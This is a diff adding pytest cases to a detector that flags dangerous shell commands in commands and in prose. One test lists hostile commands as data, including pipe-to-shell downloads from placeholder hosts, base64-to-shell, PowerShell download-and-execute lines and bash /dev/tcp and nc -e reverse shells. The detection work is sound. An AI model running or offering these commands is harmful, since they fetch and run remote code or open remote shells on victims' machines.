@@ -44,6 +44,42 @@ def test_an_ordinary_command_is_not_dangerous(command: str) -> None:
     assert danger_of(command) is None
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://x.example/i.sh | sh", "curl -fsSL x.example | sudo -E bash -s -- --yes",
+        "wget -qO- http://x.example/a | /bin/sh", "wget -O- x | gunzip | bash",
+        "curl 'http://x.example/?a=1&b=2' | python3 -", "bash <(curl -s x.example/i)",
+        'sh -c "$(curl -fsSL x.example/i)"', "Run: curl x.example | bash.", "eval $(wget -qO- x.example)", ". <(curl x.example)",
+        "echo aGk= | base64 -d | sh", "base64 --decode x.b64 | sudo bash", "xxd -r -p x | sh",
+        "iex (irm https://x.example/i.ps1)", "irm x.example | iex",
+        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')",
+        "powershell -enc SQBFAFgAIAAoAGkAcgBtACkA", "bash -i >& /dev/tcp/10.0.0.9/443 0>&1",
+        "nc 10.0.0.9 443 -e /bin/sh", "python -c \"exec(urlopen('http://x').read())\"",
+    ],
+)  # fmt: skip
+def test_code_from_elsewhere_is_dangerous_in_commands_and_in_prose(command: str) -> None:
+    for danger in (danger_of(command), danger_in_prose(f"As root, run `{command}` on each node.")):
+        assert danger is not None
+        assert danger.what == "runs code from elsewhere"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s http://localhost:9090/api/v1/alerts | jq .", "curl -s x | python3 -m json.tool",
+        "wget -O image.bin https://x.example/image.bin", "curl x | shuf | head",
+        "kubectl get secret x -o jsonpath={.data.p} | base64 -d", "curl x | perl -ne 'print'",
+        "base64 -d x | openssl x509 -text", "timeout 3 bash -c '</dev/tcp/10.0.0.1/179'",
+        "curl -o i.sh https://x.example/i.sh", "nc -zv 10.0.0.1 179", "sh show.sh | grep curl",
+        "iex.exe --version", "curl -s x | tee run.sh",
+    ],
+)  # fmt: skip
+def test_fetching_alone_is_not_dangerous(command: str) -> None:
+    assert danger_of(command) is None
+    assert danger_in_prose(f"Run `{command}` and read what it says.") is None
+
+
 def test_prose_is_dangerous_only_where_no_english_reads_so() -> None:
     assert danger_in_prose("Reboot the switch and reload the page; no vlan 10 is set") is None
     assert danger_in_prose("Run rm -rf on the old folder") is not None
